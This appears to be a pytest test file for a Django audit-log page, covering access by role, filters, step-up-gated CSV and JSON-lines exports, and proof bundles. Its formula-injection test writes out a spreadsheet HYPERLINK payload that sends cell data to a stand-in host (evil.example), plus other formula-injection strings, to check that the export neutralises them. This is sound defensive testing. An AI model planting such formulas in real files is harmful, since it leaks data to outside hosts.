"""/audit/: auditors and leads only; filters; exports need a fresh step-up and are audited."""

import csv
import io
import json
import tempfile
from pathlib import Path
from urllib.parse import unquote

import pytest

import audit
from audit.models import AuditEvent
from tests.accounts.test_login import (  # noqa: F401 - fast_password_hashing is a fixture
    fast_password_hashing,
    password_sign_in,
)
from tests.conftest import sign_in

pytestmark = pytest.mark.django_db

URL = "/audit/"


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("role_fixture", ["auditor", "lead"])
def test_auditors_and_leads_read_the_log(client, request, role_fixture):
    person = request.getfixturevalue(role_fixture)
    sign_in(client, person)
    audit.record("test.visible", data={"x": 1})
    response = client.get("/audit/")
    assert response.status_code == 200
    assert "test.visible" in response.content.decode()


@pytest.mark.parametrize("role_fixture", ["responder", "manager", "legal", "reporter"])
def test_other_roles_are_refused(client, request, role_fixture):
    sign_in(client, request.getfixturevalue(role_fixture))
    assert client.get("/audit/").status_code == 403
    assert client.get(f"/audit/{audit.record('x.y').pk}/").status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get("/audit/")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_filters_by_action_actor_and_object(client, auditor, incident, responder):
    sign_in(client, auditor)
    audit.record("other.thing")
    page = client.get("/audit/", {"action": "incident.", "actor": responder.username}).content
    assert b"incident.filed" in page
    assert b"other.thing" not in page
    target = f"incidents.incident:{incident.pk}"
    page = client.get("/audit/", {"target": target}).content.decode()
    assert "incident.filed" in page
    assert "other.thing" not in page


def test_a_malformed_object_filter_is_a_clear_400(client, auditor):
    sign_in(client, auditor)
    response = client.get("/audit/", {"target": "nonsense"})
    assert response.status_code == 400
    assert "Write app.model or app.model:id." in response.content.decode()


def test_older_events_are_reached_page_by_page(client, auditor):
    sign_in(client, auditor)
    for n in range(60):
        audit.record("page.event", data={"n": n})
    first = client.get("/audit/", {"action": "page."})
    assert first.content.decode().count("page.event") == 50
    older = first.context["next_query"]
    second = client.get(f"/audit/?{older}")
    assert second.content.decode().count("page.event") == 10


def test_an_event_page_shows_its_hash_and_data(client, lead):
    sign_in(client, lead)
    event = audit.record("detail.event", data={"reason": "because"})
    page = client.get(f"/audit/{event.pk}/").content.decode()
    assert event.hash in page
    assert "because" in page


def test_export_without_a_fresh_step_up_goes_to_step_up_and_exports_nothing(client, auditor):
    sign_in(client, auditor, step_up=False)
    response = client.post(
        "/audit/export.jsonl", {"action": ""}, HTTP_REFERER="http://testserver/audit/"
    )
    assert response.status_code == 302
    assert unquote(response["Location"]).startswith("/accounts/step-up/?next=/audit/")
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_export_as_json_lines_has_every_filtered_event_and_is_audited(client, auditor):
    sign_in(client, auditor)
    for n in range(3):
        audit.record("export.me", data={"n": n})
    response = client.post("/audit/export.jsonl", {"action": "export."})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-ndjson"
    rows = [json.loads(line) for line in _body(response).splitlines()]
    assert [row["data"]["n"] for row in rows] == [0, 1, 2]
    assert all(len(row["hash"]) == 64 for row in rows)
    exported = AuditEvent.objects.get(action="audit.exported")
    assert exported.actor == auditor
    assert exported.data["format"] == "jsonl"


def test_export_as_csv_has_a_header_and_the_events(client, lead):
    sign_in(client, lead)
    audit.record("csv.me", data={"k": "v"})
    response = client.post("/audit/export.csv", {"action": "csv."})
    rows = list(csv.reader(io.StringIO(_body(response))))
    assert rows[0][:3] == ["id", "created_at", "action"]
    assert [row[2] for row in rows[1:]] == ["csv.me"]


def test_export_is_post_only(client, auditor):
    sign_in(client, auditor)
    assert client.get("/audit/export.jsonl").status_code == 405


# --- Formula injection (issue 14): outsiders' text reaches the export -------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.usefixtures("fast_password_hashing")
def test_outsiders_text_in_the_csv_export_never_starts_a_formula(
    client, lead, api_client, responder, incident
):
    from django.test import Client

    from incidents import services as incident_services

    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    # A request refused for its token, with a User-Agent chosen by whoever sent it.
    api_client.get(
        "/api/v1/incidents/",
        HTTP_AUTHORIZATION="Bearer cdn_not-a-real-token",
        HTTP_USER_AGENT=hyperlink,
    )
    # A sign-in attempt with a user name (and a User-Agent) typed by anyone.
    password_sign_in(Client(HTTP_USER_AGENT=" -2+3"), "=1+1", "a-wrong-guess-123")
    # Titles typed by members: the model-write capture labels the task by its title.
    incident_services.task_add(incident=incident, actor=responder, title="@SUM(1)")
    sign_in(client, lead)

    response = client.post("/audit/export.csv", {})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(_body(response))))
    header, events = rows[0], rows[1:]
    cells = [cell for row in events for cell in row]
    dangerous = [
        cell
        for cell in cells
        if cell.lstrip()[:1] in FORMULA_STARTS or cell[:1] in FORMULA_STARTS
        if not _is_number(cell)
    ]
    assert dangerous == []
    user_agents = {row[header.index("user_agent")] for row in events}
    assert "'" + hyperlink in user_agents
    assert "' -2+3" in user_agents
    labels = {row[header.index("target_label")] for row in events}
    assert "'@SUM(1)" in labels
    failed = [row for row in events if row[header.index("action")] == "login.failed"]
    assert json.loads(failed[0][header.index("data")]) == {"username": "=1+1"}


# --- Transparency log and verify now (issues 16 and 17) -----------------------------


def test_the_page_shows_the_checkpoint_merge_delay_and_public_key(client, auditor):
    from audit import checkpoints, signing
    from audit.sequencer import sequence_pending

    audit.record("test.event")
    sequence_pending()
    checkpoint = checkpoints.publish(force=True)
    sign_in(client, auditor)
    page = client.get(URL).content.decode()
    assert f"<strong>{checkpoint.tree_size}</strong> events" in page
    assert checkpoint.note.split("\n")[2] in page  # the root hash line
    assert "Merge delay" in page and "median" in page
    assert signing.log_key().verifier_key in page
    assert "/api/v1/audit/key/" in page


def test_verify_now_resolves_a_pending_status_in_process(client, auditor):
    sign_in(client, auditor)
    assert "Not verified yet" in client.get(URL).content.decode()
    response = client.post(f"{URL}verify/")
    assert response.status_code == 302
    page = client.get(URL).content.decode()
    assert "Not verified yet" not in page and "Intact: verified up to event" in page


def test_verify_now_is_for_auditors_and_leads_only(client, responder):
    sign_in(client, responder)
    assert client.post(f"{URL}verify/").status_code == 403


def test_the_proof_bundle_needs_a_fresh_step_up(client, auditor, incident):
    sign_in(client, auditor, step_up=False)
    response = client.post(f"{URL}proof/", {"incident": incident.reference})
    assert response.status_code == 302 and "/accounts/step-up/" in response["Location"]
    assert not AuditEvent.objects.filter(action="audit.proof_exported").exists()


def test_the_proof_bundle_downloads_and_verifies_and_is_audited(client, auditor, incident):
    from cordon_cli.auditproof import verify_bundle

    sign_in(client, auditor)
    response = client.post(f"{URL}proof/", {"incident": incident.reference})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert incident.reference in response["Content-Disposition"]
    path = Path(tempfile.mkdtemp()) / "proof.zip"
    path.write_bytes(response.content)
    said: list[str] = []
    assert verify_bundle(path, key_text=None, say=said.append) == 0, said
    exported = AuditEvent.objects.get(action="audit.proof_exported")
    assert exported.actor == auditor and exported.target_id == str(incident.pk)


def test_a_proof_bundle_of_an_unknown_incident_is_a_clear_400(client, lead):
    sign_in(client, lead)
    response = client.post(f"{URL}proof/", {"incident": "INC-1999-404"})
    assert response.status_code == 400
    assert "No incident INC-1999-404." in response.content.decode()


def test_a_proof_bundle_needs_the_audit_log_permission(client, responder, incident):
    sign_in(client, responder)
    response = client.post(f"{URL}proof/", {"incident": incident.reference})
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="audit.proof_exported").exists()


@pytest.mark.django_db(transaction=True)
def test_a_proof_bundle_while_another_sequencer_holds_the_log_is_a_clear_503(
    client, auditor, incident
):
    import threading

    from django.db import connection, connections, transaction

    from audit.sequencer import SEQUENCER_LOCK_KEY

    if connection.vendor != "postgresql":
        pytest.skip("two connections at once need PostgreSQL")
    sign_in(client, auditor)
    held, release = threading.Event(), threading.Event()

    def hold_the_lock():
        try:
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute("SELECT pg_advisory_xact_lock(%s)", [SEQUENCER_LOCK_KEY])
                held.set()
                release.wait(timeout=30)
        finally:
            connections.close_all()

    other = threading.Thread(target=hold_the_lock)
    other.start()
    try:
        assert held.wait(timeout=10)
        response = client.post(f"{URL}proof/", {"incident": incident.reference})
    finally:
        release.set()
        other.join(timeout=30)
    assert response.status_code == 503
    assert "ask again in a moment" in response.content.decode()
    assert not AuditEvent.objects.filter(action="audit.proof_exported").exists()
